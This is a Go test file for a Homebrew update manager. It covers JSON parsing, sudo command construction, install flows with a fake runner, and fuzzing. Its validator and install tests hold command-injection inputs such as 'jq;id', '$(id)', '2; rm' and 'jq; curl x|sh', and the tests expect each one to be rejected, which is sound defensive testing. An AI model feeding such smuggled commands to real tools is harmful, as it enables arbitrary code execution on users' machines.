package brew

import (
	"bytes"
	"context"
	"encoding/json"
	"flag"
	"os"
	"os/user"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/patchring/patchring/internal/pkgmgr"
)

var update = flag.Bool("update", false, "rewrite golden files in testdata")

func golden(t *testing.T, name string, got any) {
	t.Helper()
	var buf bytes.Buffer
	enc := json.NewEncoder(&buf)
	enc.SetEscapeHTML(false)
	enc.SetIndent("", "  ")
	if err := enc.Encode(got); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join("testdata", name+".golden.json")
	if *update {
		if err := os.WriteFile(path, buf.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test -update to create it)", err)
	}
	if diff := cmp.Diff(string(want), buf.String()); diff != "" {
		t.Errorf("%s mismatch (-want +got):\n%s", path, diff)
	}
}

func read(t testing.TB, name string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("testdata", name))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func TestParseOutdated_Golden(t *testing.T) {
	for _, name := range []string{"outdated-homebrew-spec", "outdated-reconstructed"} {
		t.Run(name, func(t *testing.T) {
			got, err := parseOutdated(read(t, name+".json"))
			if err != nil {
				t.Fatal(err)
			}
			golden(t, name+".updates", got)
		})
	}
}

func TestParseOutdated_Behaviour(t *testing.T) {
	got, err := parseOutdated(read(t, "outdated-reconstructed.json"))
	if err != nil {
		t.Fatal(err)
	}
	var ids []string
	for _, u := range got {
		ids = append(ids, u.ID+" "+u.InstalledVersion+" "+u.Origin)
	}
	want := []string{
		"jq=1.7.1 1.7 formula",
		// neovim is pinned: left out.
		"cdalvaro/tap/salt=3007.1_2 3007.0_1 formula", // newest installed keg
		"discord=0.0.305 0.0.293 cask",
		"visual-studio-code=1.89.1 1.86.0 cask", // pre-2023 string form
	}
	if diff := cmp.Diff(want, ids); diff != "" {
		t.Errorf("updates (-want +got):\n%s", diff)
	}
}

func TestParseOutdated_Errors(t *testing.T) {
	bad := []string{
		"",
		"[]",
		`{"formulae":[{"name":"-rf","installed_versions":["1"],"current_version":"2"}]}`,
		`{"formulae":[{"name":"jq","installed_versions":["1"],"current_version":"2; rm"}]}`,
		`{"casks":[{"name":"x","installed_versions":7,"current_version":"2"}]}`,
	}
	for _, in := range bad {
		if _, err := parseOutdated([]byte(in)); err == nil {
			t.Errorf("parseOutdated(%q) succeeded, want an error", in)
		}
	}
}

func TestParseInfo_Golden(t *testing.T) {
	got, err := parseInfo(read(t, "info-installed-salt.json"))
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 4 || got[0].Name != "jq" || got[0].Version != "1.7.1" || got[3].Name != "discord" || got[3].Version != "0.0.293" {
		t.Errorf("parseInfo = %+v", got)
	}
	golden(t, "info-installed-salt.software", got)
}

func TestValidate(t *testing.T) {
	for _, n := range []string{"jq", "openssl@3", "gtk+3", "visual-studio-code", "cdalvaro/tap/salt", "python@3.12"} {
		if err := validateName(n); err != nil {
			t.Errorf("validateName(%q) = %v", n, err)
		}
	}
	for _, n := range []string{"", "-h", "--cask", "jq wget", "jq;id", "$(id)", "a/b", "a/b/c/d", "../x", "jq\n"} {
		if err := validateName(n); err == nil {
			t.Errorf("validateName(%q) = nil, want an error", n)
		}
	}
	for _, v := range []string{"1.7.1", "3007.1_2", "5.1,2134", "latest", "2024.01.01"} {
		if err := validateVersion(v); err != nil {
			t.Errorf("validateVersion(%q) = %v", v, err)
		}
	}
	for _, v := range []string{"", "-1", "1 2", "1;2", "1|2"} {
		if err := validateVersion(v); err == nil {
			t.Errorf("validateVersion(%q) = nil, want an error", v)
		}
	}
	for _, u := range []string{"", "-u", "a b", "a;b", "root$"} {
		if err := validateUser(u); err == nil {
			t.Errorf("validateUser(%q) = nil, want an error", u)
		}
	}
}

type fakeRunner struct {
	out   map[string][]string
	errs  map[string]error
	calls []pkgmgr.Command
}

func (f *fakeRunner) Run(_ context.Context, c pkgmgr.Command) ([]byte, error) {
	f.calls = append(f.calls, c)
	// Key on the brew arguments only, after the sudo/env prefix.
	key := strings.Join(c.Args[brewArgsStart(c):], " ")
	outs := f.out[key]
	var out string
	if len(outs) > 0 {
		out = outs[0]
		if len(outs) > 1 {
			f.out[key] = outs[1:]
		}
	}
	return []byte(out), f.errs[key]
}

func brewArgsStart(c pkgmgr.Command) int {
	for i, a := range c.Args {
		if a == "/opt/homebrew/bin/brew" {
			return i + 1
		}
	}
	return 0
}

func newTestManager(t *testing.T, r pkgmgr.Runner) *Manager {
	t.Helper()
	m, err := New(r, Options{Brew: "/opt/homebrew/bin/brew", User: "alice"})
	if err != nil {
		t.Fatal(err)
	}
	return m
}

func TestManager_Command(t *testing.T) {
	f := &fakeRunner{}
	m := newTestManager(t, f)
	got := m.command("upgrade", "--formula", "jq")
	want := pkgmgr.Command{Path: "/usr/bin/sudo", Args: []string{
		"-u", "alice", "-H", "--", "/usr/bin/env",
		"HOMEBREW_NO_AUTO_UPDATE=1", "HOMEBREW_NO_ANALYTICS=1", "HOMEBREW_NO_ENV_HINTS=1",
		"HOMEBREW_NO_INSTALLED_DEPENDENTS_CHECK=1", "HOMEBREW_NO_COLOR=1", "NONINTERACTIVE=1",
		"/opt/homebrew/bin/brew", "upgrade", "--formula", "jq",
	}}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("command (-want +got):\n%s", diff)
	}
	direct, err := New(f, Options{Brew: "/opt/homebrew/bin/brew", NoSudo: true})
	if err != nil {
		t.Fatal(err)
	}
	if c := direct.command("outdated", "--json=v2"); c.Path != "/opt/homebrew/bin/brew" || len(c.Env) == 0 {
		t.Errorf("NoSudo command = %+v, want brew run directly with HOMEBREW_* in Env", c)
	}
	if _, err := New(f, Options{Brew: "/opt/homebrew/bin/brew", User: "root"}); err == nil {
		t.Error("New accepted root as the brew user")
	}
	if _, err := New(f, Options{Brew: "/opt/homebrew/bin/brew", User: "-oProxyCommand"}); err == nil {
		t.Error("New accepted a user name starting with '-'")
	}
}

func TestManager_Scan(t *testing.T) {
	f := &fakeRunner{out: map[string][]string{"outdated --json=v2": {string(read(t, "outdated-reconstructed.json"))}}}
	got, err := newTestManager(t, f).Scan(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 4 {
		t.Errorf("Scan returned %d updates, want 4", len(got))
	}
	var verbs []string
	for _, c := range f.calls {
		verbs = append(verbs, strings.Join(c.Args[brewArgsStart(c):], " "))
	}
	if diff := cmp.Diff([]string{"update --quiet", "outdated --json=v2"}, verbs); diff != "" {
		t.Errorf("brew commands (-want +got):\n%s", diff)
	}
}

func TestManager_Scan_OldBrewExit1(t *testing.T) {
	f := &fakeRunner{
		out:  map[string][]string{"outdated --json=v2": {string(read(t, "outdated-homebrew-spec.json"))}},
		errs: map[string]error{"outdated --json=v2": &pkgmgr.ExitError{ExitCode: 1}},
	}
	got, err := newTestManager(t, f).Scan(t.Context())
	if err != nil || len(got) != 1 {
		t.Errorf("Scan with exit 1 and JSON = %v, %v; want the update", got, err)
	}
}

func TestManager_Install(t *testing.T) {
	infoAfter := func(version string) string {
		return `{"formulae":[{"name":"jq","full_name":"jq","installed":[{"version":"` + version + `","time":1}]}],"casks":[]}`
	}
	f := &fakeRunner{out: map[string][]string{
		"outdated --json=v2":                       {string(read(t, "outdated-reconstructed.json"))},
		"upgrade --formula jq":                     {"==> Upgrading jq\n"},
		"info --json=v2 --formula jq":              {infoAfter("1.7.1")},
		"upgrade --cask discord":                   {"==> Upgrading discord\n"},
		"info --json=v2 --cask discord":            {`{"formulae":[],"casks":[{"token":"discord","installed":"0.0.306"}]}`}, // tap moved on mid-run
		"upgrade --cask visual-studio-code":        {""},
		"info --json=v2 --cask visual-studio-code": {""},
	}, errs: map[string]error{
		"upgrade --cask visual-studio-code": &pkgmgr.ExitError{ExitCode: 1, Stderr: "sudo: a password is required"},
	}}
	res, err := newTestManager(t, f).Install(t.Context(), pkgmgr.InstallRequest{Targets: []pkgmgr.Target{
		{ID: "jq=1.7.1", Package: "jq", Version: "1.7.1"},
		{ID: "discord=0.0.305", Package: "discord", Version: "0.0.305"},
		{ID: "visual-studio-code=1.89.1", Package: "visual-studio-code", Version: "1.89.1"},
		{ID: "neovim=0.10.0", Package: "neovim", Version: "0.10.0"},
		{ID: "cdalvaro/tap/salt=3007.1_1", Package: "cdalvaro/tap/salt", Version: "3007.1_1"},
		{ID: "wget=1.24", Package: "wget", Version: "1.24"},
		{ID: "evil", Package: "jq; curl x|sh", Version: "1"},
		{ID: "nover", Package: "jq"},
	}})
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, it := range res.Items {
		got = append(got, it.ID+" "+string(it.Status))
	}
	want := []string{
		"jq=1.7.1 installed",
		"discord=0.0.305 failed",
		"visual-studio-code=1.89.1 failed",
		"neovim=0.10.0 skipped",
		"cdalvaro/tap/salt=3007.1_1 skipped",
		"wget=1.24 skipped",
		"evil failed",
		"nover failed",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("items (-want +got):\n%s", diff)
	}
	if d := res.Items[1].Detail; !strings.Contains(d, "0.0.306") || !strings.Contains(d, "0.0.305") {
		t.Errorf("version-mismatch detail %q should name both versions", d)
	}
	if res.Items[0].FromVersion != "1.7" {
		t.Errorf("FromVersion = %q, want 1.7", res.Items[0].FromVersion)
	}
	var brewCmds []string
	for _, c := range f.calls {
		brewCmds = append(brewCmds, strings.Join(c.Args[brewArgsStart(c):], " "))
	}
	wantCmds := []string{
		"outdated --json=v2",
		"upgrade --formula jq", "info --json=v2 --formula jq",
		"upgrade --cask discord", "info --json=v2 --cask discord",
		"upgrade --cask visual-studio-code",
	}
	if diff := cmp.Diff(wantCmds, brewCmds); diff != "" {
		t.Errorf("brew commands (-want +got):\n%s", diff)
	}
}

func TestManager_InstalledSoftware(t *testing.T) {
	f := &fakeRunner{out: map[string][]string{"info --json=v2 --installed": {string(read(t, "info-installed-salt.json"))}}}
	got, err := newTestManager(t, f).InstalledSoftware(t.Context())
	if err != nil || len(got) != 4 {
		t.Errorf("InstalledSoftware = %d records, %v; want 4", len(got), err)
	}
}

func TestOwner(t *testing.T) {
	me, err := user.Current()
	if err != nil {
		t.Skip(err)
	}
	got, err := Owner(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	if got != me.Username {
		t.Errorf("Owner(temp dir) = %q, want %q", got, me.Username)
	}
	if _, err := Owner(filepath.Join(t.TempDir(), "missing")); err == nil {
		t.Error("Owner of a missing directory succeeded")
	}
}

func TestPrefixOf(t *testing.T) {
	for in, want := range map[string]string{
		"/opt/homebrew/bin/brew": "/opt/homebrew",
		"/usr/local/bin/brew":    "/usr/local/Homebrew",
	} {
		if got := prefixOf(in); got != want {
			t.Errorf("prefixOf(%q) = %q, want %q", in, got, want)
		}
	}
}

func FuzzParseOutdated(f *testing.F) {
	for _, n := range []string{"outdated-homebrew-spec.json", "outdated-reconstructed.json"} {
		f.Add(read(f, n))
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		ups, err := parseOutdated(b)
		if err != nil {
			return
		}
		for _, u := range ups {
			if validateName(u.Package) != nil || validateVersion(u.AvailableVersion) != nil {
				t.Fatalf("parseOutdated returned an invalid update %+v", u)
			}
		}
	})
}

func FuzzParseInfo(f *testing.F) {
	f.Add(read(f, "info-installed-salt.json"))
	f.Fuzz(func(t *testing.T, b []byte) {
		_, _ = parseInfo(b)
		_, _ = installedVersions(b)
	})
}
